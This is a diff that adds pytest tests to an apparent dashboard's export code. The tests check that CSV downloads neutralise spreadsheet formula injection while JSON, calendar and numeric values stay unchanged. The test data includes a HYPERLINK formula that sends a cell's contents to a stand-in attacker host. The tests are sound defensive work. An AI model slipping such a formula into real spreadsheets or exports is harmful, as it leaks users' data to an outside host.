@@ -260,3 +260,49 @@ def test_download_name_is_safe_and_bounded():
     name = download_name(VISIT_ID, "x" * 500 + " <script>", ".ics")
     assert re.fullmatch(r"[a-z0-9-]+\.ics", name)
     assert len(name) <= 130
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tcmd",
+    "\rcmd",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_downloads_neutralise_formulas_in_every_text_cell(visit, formula):
+    events = visit.events.copy()
+    events.loc[events.index[0], "title"] = formula
+    events.loc[events.index[0], "summary"] = formula
+    cards = visit.issue_cards.copy()
+    cards.loc[cards.index[0], "aim"] = formula
+    for data, column, frame in (
+        (events_csv(events), "title", events),
+        (events_csv(events), "summary", events),
+        (cards_csv(cards), "aim", cards),
+    ):
+        cell = _read_csv(data)[column].iloc[0]
+        assert cell == "'" + formula, f"{column}: a spreadsheet would run {cell!r}"
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    # The other rows, and numbers such as a negative coordinate, are unchanged.
+    assert _read_csv(events_csv(events))["title"].iloc[1] == str(events["title"].iloc[1])
+
+
+def test_json_and_ics_carry_the_text_as_written(visit):
+    events = visit.events.copy()
+    formula = FORMULAS[0]
+    events.loc[events.index[0], "title"] = formula
+    document = json.loads(filtered_json(visit, events, visit.issue_cards))
+    assert document["events"][0]["title"] == formula
+    calendar = Calendar.from_ical(itinerary_ics(visit, events))
+    assert formula in [str(e.get("SUMMARY")) for e in calendar.walk("VEVENT")]
+
+
+@pytest.mark.parametrize("number", ["-3.5", "+12", "-0.25", "1e-3"])
+def test_numbers_are_not_mistaken_for_formulas(number):
+    from dashboard.exports import neutralised
+
+    assert neutralised(number) == number
